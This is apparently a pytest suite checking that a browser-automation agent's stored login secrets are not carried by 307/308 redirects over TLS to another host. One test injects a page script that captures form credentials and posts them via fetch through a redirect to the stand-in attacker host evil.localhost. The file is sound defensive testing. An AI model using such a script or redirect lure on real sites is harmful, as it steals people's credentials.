"""Tests of redirects over TLS, where the proxy sees no path and no status: typed secrets reach no other host."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import Any

import pytest

from helpers.certificates import browser_that_takes, own_certificate
from helpers.login_site import FORM, LoginSite

WELL = {"email": "ada@planted.example", "password": "lavender-over-tls-91"}
MINE = [{"match": "login.localhost", "fields": WELL}]
BOTH = [{"match": "*.localhost", "fields": WELL}]


@pytest.fixture(scope="module")
def site_and_emulator(start_emulator: Any, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[LoginSite, Any]]:
    """Run a site with its own certificate, and an emulator whose browser accepts it."""
    folder = tmp_path_factory.mktemp("tls")
    tls, spki = own_certificate(folder)
    site = LoginSite(tls)
    yield site, start_emulator("--isolation", "context", env={"WEBRUN_BROWSER": browser_that_takes(spki, folder)})
    site.close()


@pytest.fixture
def site(site_and_emulator: tuple[LoginSite, Any]) -> LoginSite:
    site, _ = site_and_emulator
    site.posted.clear()
    return site


@pytest.fixture
def log_in(site_and_emulator: tuple[LoginSite, Any], site: LoginSite) -> Callable[..., Any]:
    """Log in on a page; the task names every host, so that only the tested rule can refuse it."""
    _, emulator = site_and_emulator

    def run(secrets: Any = MINE) -> Any:
        pages = [site.url("/x", "evil.localhost"), site.url("/x", "www.login.localhost"), site.url()]
        details = "\n".join([*(f"Go to {page}" for page in pages), "Log in"])
        status, body = emulator.post("/start/run-task", {"taskDetails": details, "secrets": secrets})
        assert status == 200, body
        return body

    return run


def posted_to(site: LoginSite, host: str) -> list[dict[str, str]]:
    return [form for at, _, form in site.posted if at == host]


def form(site: LoginSite, action: str, script: str = "") -> None:
    site.page("/login", f"<title>Log in</title>{FORM.format(action=action)}<script>{script}</script>")


@pytest.mark.parametrize("code", [307, 308])
def test_a_login_is_not_sent_on_to_another_host(site: LoginSite, log_in: Any, code: int) -> None:
    form(site, f"/again/{code}/evil.localhost/login")
    body = log_in()
    assert (body["status"], body.get("code")) == ("failed", "BLOCKED_BY_POLICY"), body
    assert (posted_to(site, "login.localhost"), posted_to(site, "evil.localhost")) == ([WELL], [])


def test_a_login_is_sent_on_to_a_host_that_it_is_for(site: LoginSite, log_in: Any) -> None:
    form(site, "/again/307/www.login.localhost/login")
    body = log_in(BOTH)
    assert (body["status"], posted_to(site, "www.login.localhost")) == ("complete", [WELL]), body


def test_what_a_script_sends_is_not_sent_on(site: LoginSite, log_in: Any) -> None:
    """The same request to the page's own host is redirected; the page is left once both were answered."""
    send = """document.forms[0].onsubmit = () => {
      const body = new URLSearchParams(new FormData(document.forms[0]));
      const one = host => fetch(`/again/307/${host}/login`, {method: 'POST', body, mode: 'no-cors'}).catch(() => {});
      Promise.all([one('evil.localhost'), one('login.localhost')]).then(() => { location = '/orders' });
      return false;
    }"""
    form(site, "/login", send)
    body = log_in()
    assert (posted_to(site, "login.localhost").count(WELL), posted_to(site, "evil.localhost")) == (3, []), body
